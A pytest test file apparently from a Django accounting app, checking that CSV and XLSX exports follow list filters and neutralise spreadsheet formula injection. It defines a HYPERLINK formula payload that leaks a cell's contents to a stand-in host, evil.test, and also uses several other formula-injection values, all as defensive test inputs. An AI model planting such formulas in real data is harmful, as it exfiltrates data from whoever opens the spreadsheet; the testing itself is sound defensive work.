"""CSV and XLSX exports: the rows of the list with its filters, and no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from tenants.billing.services import expense_submit, payment_record
from tenants.exports import escape_csv
from tests import factories

from .conftest import declare, translated

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_xlsx(response) -> tuple[list[tuple], openpyxl.worksheet.worksheet.Worksheet]:
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert all(b"<f>" not in archive.read(name) for name in sheets)  # no formula anywhere
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return list(sheet.iter_rows(values_only=True)), sheet


def fr(*messages: str) -> list[str]:
    return [translated("fr", message) for message in messages]


def test_a_cell_that_looks_like_a_formula_is_made_inert_in_csv():
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert escape_csv(value) == "'" + value
    assert escape_csv("Ada -1") == "Ada -1"


def test_members_export_follows_the_search_and_escapes_formulas(books):
    today = timezone.localdate()
    with books.inside():
        factories.member(first_name="Eve", last_name=EVIL, email="eve@wallaby.test", phone="+32 2 000 00 00")
        factories.member(first_name="Wally", last_name="Wallaby", email="wally@wallaby.test")
        factories.member(first_name="Other", last_name="Person", email="other@elsewhere.test")

    response = books.get("member_export_csv", {"q": "wallaby", "page": "2"})
    assert response["Content-Disposition"] == f'attachment; filename="members-{today:%Y-%m-%d}.csv"'
    natural, user = translated("fr", "Natural person"), translated("fr", "User, natural person")
    assert read_csv(response) == [
        fr(
            "Last name or company name",
            "First name",
            "Kind",
            "Stakeholder category",
            "E-mail",
            "Phone",
            "Languages",
            "Registered on",
        ),
        ["'" + EVIL, "Eve", natural, user, "eve@wallaby.test", "'+32 2 000 00 00", "", today.isoformat()],
        ["Wallaby", "Wally", natural, user, "wally@wallaby.test", "", "", today.isoformat()],
    ]

    rows, sheet = read_xlsx(books.get("member_export_xlsx", {"q": "wallaby"}))
    midnight = datetime.datetime.combine(today, datetime.time())
    assert rows[1:] == [
        (EVIL, "Eve", natural, user, "eve@wallaby.test", "+32 2 000 00 00", None, midnight),
        ("Wallaby", "Wally", natural, user, "wally@wallaby.test", None, None, midnight),
    ]
    assert sheet["A2"].data_type == "s"  # text, not a formula
    assert sheet["F2"].data_type == "s"


def test_invoices_export_follows_the_status_filter(books):
    paid = declare(books, net="300.00", on=datetime.date(2026, 2, 10), client_name="=Evil Client")
    declare(books, net="100.00", on=datetime.date(2026, 2, 11), client_name="Kept Out")
    with books.inside():
        from tenants.billing.models import Invoice

        invoice = Invoice.objects.get(public_id=paid.invoice)
        payment_record(invoice=invoice, amount=Decimal("363.00"), currency="EUR", on=datetime.date(2026, 3, 1))
        activity = invoice.activity.name

    table = read_csv(books.get("invoice_export_csv", {"status": "paid"}))
    assert table[0][0] == translated("fr", "Number") and len(table[0]) == 14
    assert table[1:] == [
        [
            invoice.number,
            translated("fr", "Invoice"),
            translated("fr", "Paid"),
            "2026-02-10",
            "2026-03-12",
            "'=Evil Client",
            activity,
            "EUR",
            "300.00",
            "63.00",
            "363.00",
            "6.50",
            "19.50",
            "0.00",
        ]
    ]
    rows, _sheet = read_xlsx(books.get("invoice_export_xlsx", {"status": "paid"}))
    assert len(rows) == 2
    assert rows[1][5] == "=Evil Client"
    assert rows[1][8:] == (300, 63, 363, 6.5, 19.5, 0)


def test_contracts_and_expenses_exports(books):
    done = declare(books, gross=["200.00"], last_name="Bilby")
    with books.inside():
        from tenants.activities.models import Activity
        from tenants.members.models import Member

        activity = Activity.objects.get(public_id=done.activity)
        member = Member.objects.get(public_id=done.member)
        for description in ("+SUM(A1:A9)", "@cmd", "-2+3", "Taxi"):
            expense_submit(
                activity=activity,
                member=member,
                description=description,
                amount=Decimal("12.50"),
                currency="EUR",
                on=datetime.date(2026, 5, 10),
            )

    contracts = read_csv(books.get("contract_export_csv", {"q": "bilby"}))
    assert contracts[1:] == [
        [
            translated("fr", "Employment contract (wage)"),
            member.display_name,
            activity.name,
            "2026-05-09",
            "2026-05-09",
            "BE",
            "EUR",
            "200.00",
            "1.3500",
            "270.00",
            translated("fr", "Signed"),
            "",
        ]
    ]
    assert read_csv(books.get("contract_export_csv", {"q": "bilby", "status": "paid"}))[1:] == []
    rows, _sheet = read_xlsx(books.get("contract_export_xlsx", {"q": "bilby"}))
    assert rows[1][7:10] == (200, 1.35, 270)

    expenses = read_csv(books.get("expense_export_csv", {"q": "bilby"}))
    assert sorted(row[1] for row in expenses[1:]) == ["'+SUM(A1:A9)", "'-2+3", "'@cmd", "Taxi"]
    assert {(row[5], row[6], row[8]) for row in expenses[1:]} == {("EUR", "12.50", "0")}
    rows, _sheet = read_xlsx(books.get("expense_export_xlsx", {"q": "taxi"}))
    assert rows[1][1:7] == ("Taxi", member.display_name, activity.name, None, "EUR", 12.5)


def test_statement_export_has_the_running_balance(books):
    done = declare(books, net="1000.00", gross=["100.00"])
    table = read_csv(books.get("activity_statement_export_csv", activity_id=done.activity))
    assert table[0] == fr("Date", "Kind", "Description", "Memo", "Currency", "Amount", "Balance")
    # Amounts are numbers: a negative amount is not escaped.
    assert [(row[0], row[4], row[5], row[6]) for row in table[1:]] == [
        ("2026-05-09", "EUR", "1000.00", "1000.00"),
        ("2026-05-09", "EUR", "-65.00", "935.00"),
        ("2026-05-09", "EUR", "-135.00", "800.00"),
    ]
    rows, _sheet = read_xlsx(books.get("activity_statement_export_xlsx", activity_id=done.activity))
    assert [row[5:] for row in rows[1:]] == [(1000, 1000), (-65, 935), (-135, 800)]
    assert (
        books.client.head(f"/activities/{done.activity}/statement.xlsx", HTTP_HOST=books.host).status_code == 405
    )  # a download: GET only
